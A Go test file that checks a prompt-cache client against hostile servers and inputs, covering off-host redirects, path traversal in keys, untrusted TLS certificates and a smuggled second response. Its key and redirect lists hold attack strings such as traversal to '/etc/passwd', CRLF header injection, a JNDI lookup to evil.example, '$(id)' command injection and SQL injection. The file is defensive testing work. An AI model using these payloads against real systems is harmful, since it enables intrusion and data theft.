package sourcetest

import (
	"bufio"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/promptcache/promptcache-go/promptcache"
)

// redirects proves that no request leaves the endpoint because a server says so.
// TRAP stands for another server's host and port, HERE for its own.
func (v Victim[V]) redirects(t *testing.T) {
	for _, location := range []string{
		"http://TRAP/base" + v.Path + "x", "//TRAP/base/x", "///TRAP/base/x", `/\TRAP/base/x`, `\\TRAP\base`,
		"http://HERE@TRAP/base/x", "http://me:pw@HERE/base/x", "http://HERE:pw@TRAP/base/x", "https://HERE/base/x", "HTTP://TRAP/base/",
		"http://HERE.evil.example/base/x", "http://localhost/base/x", "http://[::1]/base/x",
		"/", "/base", "/basement/x", "/other/x", "../../../../../../../other/x", "/base/../other", "/base/%2e%2e/other", "/base/%2E./other", "/base/x/..", "/base/./x", "/base%2fx",
		"ftp://HERE/base/x", "file:///etc/passwd", "javascript:alert(1)", "data:application/json,{}", "http:TRAP", "mailto:x@TRAP",
	} {
		t.Run(location, func(t *testing.T) {
			trap := NewHostile(t, respond("200 OK", "Content-Type: application/json\r\n", v.Good))
			h := NewHostile(t, func(w *bufio.Writer, r *http.Request) {
				to := strings.NewReplacer("TRAP", hostOf(t, trap.URL), "HERE", r.Host).Replace(location)
				respond("307 Temporary Redirect", "Location: "+to+"\r\n", "")(w, r)
			})
			src := v.open(t, Settings{Endpoint: h.URL, Retries: new(3)})
			_, err := src.Fetch(t.Context(), v.Key)
			requireHarmless(t, FetchError(t, err, v.Key, promptcache.KindUnavailable), h.Requests()[0])
			require.Empty(t, trap.Requests(), "the trap got the credentials")
			for _, r := range h.Requests() {
				require.True(t, strings.HasPrefix(r.RequestURI, "/base/") && !strings.Contains(decoded(r.RequestURI), ".."), r.RequestURI)
			}
		})
	}
	t.Run("without end", func(t *testing.T) {
		h := NewHostile(t, respond("302 Found", "Location: /base/again\r\n", ""))
		src := v.open(t, Settings{Endpoint: h.URL, Retries: new(3)})
		_, err := src.Fetch(t.Context(), v.Key)
		require.ErrorContains(t, FetchError(t, err, v.Key, promptcache.KindUnavailable), "more than 3 times")
		require.Len(t, h.Requests(), 4)
	})
}

func hostOf(t *testing.T, raw string) string {
	t.Helper()
	u, err := url.Parse(raw)
	require.NoError(t, err)
	return u.Host
}

// hostileKeys are keys that try to be more than the name of a prompt.
var hostileKeys = []string{
	"", ".", "..", "/", "//", "../x", "../../admin", "a/../b", "a/../../../../admin", "./a", "a/.", "a/..", "..;/x", "..%2fx", "%2e%2e", "%2e%2e/%2e%2e/admin", "%252e%252e%252fadmin",
	`..\admin`, `a\..\..\admin`, "a%5c..%5cadmin", "..%c0%af..%c0%afadmin", "．．/admin", "a//b", "/etc/passwd", "//evil.example/x", "http://evil.example/x", "https:evil", "x@evil.example", "evil.example:80/x", "user:pw@evil.example",
	"a?admin=1", "a?include_model=true&x=1", "a&x=1", "a#fragment", "a%23f", "a%3fx=1", "a;jsessionid=1", "a:../../x", "a:..", "a@../x", "a#1/../../x",
	"a\r\nX-Evil: 1", "a HTTP/1.1\r\nHost: evil.example\r\n\r\nGET /", "a\nb", "a\x00b", "a\x1b[2Jb", "a\u202eb", "a\u2028b", "a\xffb", "\ufeffa", " a", "a ", "a b", "a\tb",
	"${jndi:ldap://evil.example/x}", "{{a}}", "<script>", "' OR 1=1 --", "$(id)", "`id`", "%", "%zz", "%n%s", strings.Repeat("a", 1024), strings.Repeat("a", 1025), strings.Repeat("é", 600), strings.Repeat("a/", 512) + "a",
}

// keys proves that a key asks for one prompt, below the endpoint, or for nothing.
func (v Victim[V]) keys(t *testing.T) {
	h := NewHostile(t, respond("404 Not Found", "Content-Type: application/json\r\n", "{}"))
	src := v.open(t, Settings{Endpoint: h.URL, Retries: new(0)})
	for n, key := range hostileKeys {
		before := len(h.Requests())
		_, err := src.Fetch(t.Context(), key)
		require.Error(t, err)
		for _, wrapped := range chain(err) {
			require.NotRegexp(t, `[\x00-\x1f\x7f-\x9f\x{2028}\x{202e}]`, wrapped.Error(), "key %d", n)
		}
		requests := h.Requests()[before:]
		require.LessOrEqual(t, len(requests), 1, "%q", key)
		for _, r := range requests {
			v.requireConfined(t, key, r)
		}
	}
	require.Greater(t, len(h.Requests()), 8, "the odd ones among them are names")
}

// requireConfined requires that a request, as it came over the wire, is for one
// prompt and has nothing that the key put there.
func (v Victim[V]) requireConfined(t *testing.T, key string, r *http.Request) {
	t.Helper()
	path, query, _ := strings.Cut(r.RequestURI, "?")
	rest, below := strings.CutPrefix(path, "/base"+v.Path)
	require.True(t, below, "%q became %s", key, r.RequestURI)
	require.Regexp(t, `^[!$&'()*+,;=:@A-Za-z0-9._~%/-]+$`, path, "%q", key)
	require.Regexp(t, `^((version|label|include_model)=[A-Za-z0-9._-]+)?$`, query, "%q", key)
	for _, text := range []string{rest, decoded(rest), decoded(decoded(rest))} {
		for segment := range strings.FieldsFuncSeq(text, func(r rune) bool { return r == '/' || r == '\\' }) {
			require.NotContains(t, []string{".", ".."}, segment, "%q became %s", key, r.RequestURI)
		}
	}
	require.Equal(t, strings.Count(v.Path, "/")+v.segments(), strings.Count(path, "/"), "%q became %s", key, r.RequestURI)
	require.Equal(t, "GET", r.Method)
	require.True(t, strings.HasPrefix(r.Host, "127.0.0.1:"), r.Host)
	for name := range r.Header {
		require.Contains(t, []string{"Accept", "Accept-Encoding", "Authorization", "X-Api-Key", "User-Agent", "Connection"}, name, "%q", key)
	}
}

// segments is how many slashes there are in the path of a good request, beyond
// Path's own: those of "/base" and between the parts of a name.
func (v Victim[V]) segments() int { return v.Parts }

func decoded(text string) string {
	if plain, err := url.PathUnescape(text); err == nil {
		return plain
	}
	return text
}

// certificates proves that a server that nobody vouches for gets no request.
func (v Victim[V]) certificates(t *testing.T) {
	requests := 0
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		requests++
		Reply(w, http.StatusOK, v.Good)
	}))
	srv.Config.ErrorLog = log.New(io.Discard, "", 0)
	srv.StartTLS()
	t.Cleanup(srv.Close)
	src := v.open(t, Settings{Endpoint: srv.URL, Retries: new(3)})
	_, err := src.Fetch(t.Context(), v.Key)
	require.ErrorContains(t, FetchError(t, err, v.Key, promptcache.KindUnavailable), "the certificates that Config.HTTPClient trusts")
	require.Zero(t, requests, "self-signed")

	vouched := x509.NewCertPool()
	vouched.AddCert(srv.Certificate())
	transport := &http.Transport{TLSClientConfig: &tls.Config{RootCAs: vouched, MinVersion: tls.VersionTLS12}}
	t.Cleanup(transport.CloseIdleConnections)
	trusting := &http.Client{Transport: transport}
	src = v.open(t, Settings{Endpoint: strings.Replace(srv.URL, "127.0.0.1", "localhost", 1), Retries: new(0), HTTPClient: trusting})
	_, err = src.Fetch(t.Context(), v.Key)
	require.ErrorContains(t, FetchError(t, err, v.Key, promptcache.KindUnavailable), "not localhost")
	require.Zero(t, requests, "another host's")

	src = v.open(t, Settings{Endpoint: srv.URL, HTTPClient: trusting})
	_, err = src.Fetch(t.Context(), v.Key)
	require.NoError(t, err)
	require.Equal(t, 1, requests)
}

// smuggling proves that what a server sends after an answer is nobody's answer.
func (v Victim[V]) smuggling(t *testing.T) {
	standard := log.Writer()
	log.SetOutput(io.Discard) // net/http says so there
	t.Cleanup(func() { log.SetOutput(standard) })
	h := NewHostile(t, func(w *bufio.Writer, _ *http.Request) {
		const head = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s"
		_, _ = fmt.Fprintf(w, head+head, len(v.Good), v.Good, 2, "{}")
	})
	src := v.open(t, Settings{Endpoint: h.URL, Retries: new(0)})
	for range 3 {
		_, err := src.Fetch(t.Context(), v.Key)
		require.NoError(t, err)
	}
	require.Len(t, h.Requests(), 3)
}
